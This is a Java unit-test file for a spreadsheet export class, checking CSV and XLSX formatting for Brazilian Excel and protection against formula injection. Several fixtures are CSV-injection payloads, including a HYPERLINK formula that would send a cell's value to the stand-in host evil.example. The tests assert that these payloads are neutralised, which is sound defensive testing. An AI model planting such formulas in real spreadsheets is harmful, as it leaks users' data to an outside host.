package br.org.teia.kernel.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.mockito.Mockito.mock;
import static org.mockito.Mockito.when;

import br.org.teia.kernel.i18n.Messages;
import java.io.ByteArrayInputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Locale;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;

class SpreadsheetTest {

  record Person(String name, Integer age, LocalDate since) {}

  static final Spreadsheet<Person> SHEET = new Spreadsheet<>(List.of(
      new Spreadsheet.Column<>("Nome", Person::name),
      new Spreadsheet.Column<>("Idade", Person::age),
      new Spreadsheet.Column<>("Desde", Person::since)));

  @Test
  void translated_headers_are_the_messages_of_their_keys_with_their_arguments() {
    Messages messages = mock(Messages.class);
    when(messages.get(Locale.ROOT, "person.name")).thenReturn("Nome");
    when(messages.get(Locale.ROOT, "person.paid-in", "2026")).thenReturn("Pago em 2026");
    Spreadsheet<Person> sheet = Spreadsheet.<Person>translated(messages, Locale.ROOT)
        .column("person.name", Person::name)
        .column("person.paid-in", Person::age, "2026")
        .build();

    String csv = new String(sheet.csv(List.of(new Person("Ana", 40, null))), StandardCharsets.UTF_8);

    assertThat(csv).isEqualTo("\uFEFFNome;Pago em 2026\r\nAna;40\r\n");
  }

  @Test
  void csv_is_what_brazilian_excel_opens_with_quotes_only_where_needed() {
    String csv = new String(SHEET.csv(List.of(new Person("Ana; \"Bia\"", 40, LocalDate.of(2009, 12, 1)),
        new Person("Zé", null, null))), StandardCharsets.UTF_8);

    assertThat(csv).isEqualTo("\uFEFFNome;Idade;Desde\r\n\"Ana; \"\"Bia\"\"\";40;01/12/2009\r\nZé;;\r\n");
  }

  @Test
  void a_name_that_is_a_formula_is_exported_as_text_in_csv() {
    String csv = new String(SHEET.csv(List.of(
        new Person("=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Clique\")", 1, null),
        new Person("+5511999990000", 2, null), new Person("-2+3", 3, null), new Person("@SUM(A1:A9)", 4, null),
        new Person("\tTab", 5, null), new Person("\rCR", 6, null))), StandardCharsets.UTF_8);

    assertThat(csv.split("\r\n", -1)).containsSubsequence(
        "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"Clique\"\")\";1;",
        "'+5511999990000;2;", "'-2+3;3;", "'@SUM(A1:A9);4;", "'\tTab;5;");
    assertThat(csv).contains("\"'\rCR\";6;");
  }

  @Test
  void a_name_that_is_a_formula_is_exported_as_text_in_xlsx_and_numbers_stay_numbers() throws Exception {
    Spreadsheet<Object[]> sheet = new Spreadsheet<>(List.of(
        new Spreadsheet.Column<>("Nome", row -> row[0]), new Spreadsheet.Column<>("Saldo", row -> row[1])));
    byte[] xlsx = sheet.xlsx("Pessoas", List.<Object[]>of(
        new Object[] {"=HYPERLINK(\"http://evil.example\";\"Clique\")", new BigDecimal("-12.5")}));

    try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
      List<Row> rows = workbook.getFirstSheet().read();
      assertThat(rows.get(1).getCellText(0)).isEqualTo("'=HYPERLINK(\"http://evil.example\";\"Clique\")");
      assertThat(rows.get(1).getCellAsNumber(1)).hasValue(new BigDecimal("-12.5"));
    }
  }

  @Test
  void csv_numbers_have_a_decimal_comma_and_no_grouping_so_brazilian_excel_reads_them_as_numbers() {
    Spreadsheet<Object[]> sheet = new Spreadsheet<>(List.of(new Spreadsheet.Column<>("Valor", row -> row[0])));
    String csv = new String(sheet.csv(List.<Object[]>of(new Object[] {new BigDecimal("23.5")},
        new Object[] {18500}, new Object[] {new BigDecimal("1E+3")}, new Object[] {0.25d})), StandardCharsets.UTF_8);

    assertThat(csv).isEqualTo("\uFEFFValor\r\n23,5\r\n18500\r\n1000\r\n0,25\r\n");
  }

  @Test
  void xlsx_numbers_are_numeric_cells_with_a_thousands_format() throws Exception {
    Spreadsheet<Object[]> sheet = new Spreadsheet<>(List.of(new Spreadsheet.Column<>("Valor", row -> row[0])));
    byte[] xlsx = sheet.xlsx("Valores", List.<Object[]>of(new Object[] {18500}, new Object[] {new BigDecimal("23.5")}));

    try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx),
        new org.dhatim.fastexcel.reader.ReadingOptions(true, false))) {
      List<Row> rows = workbook.getFirstSheet().read();
      assertThat(rows.get(1).getCellAsNumber(0)).hasValue(new BigDecimal("18500"));
      assertThat(rows.get(1).getCell(0).getDataFormatString()).isEqualTo("#,##0");
      assertThat(rows.get(2).getCellAsNumber(0)).hasValue(new BigDecimal("23.5"));
      assertThat(rows.get(2).getCell(0).getDataFormatString()).isEqualTo("#,##0.0#########");
    }
  }

  @Test
  void ordinary_text_and_negative_numbers_are_left_alone() {
    assertThat(Spreadsheet.neutralised("Maria")).isEqualTo("Maria");
    assertThat(Spreadsheet.neutralised("")).isEmpty();
    assertThat(Spreadsheet.neutralised(null)).isNull();
    String csv = new String(SHEET.csv(List.of(new Person("Maria", -1, null))), StandardCharsets.UTF_8);
    assertThat(csv).endsWith("Maria;-1;\r\n");
  }
}
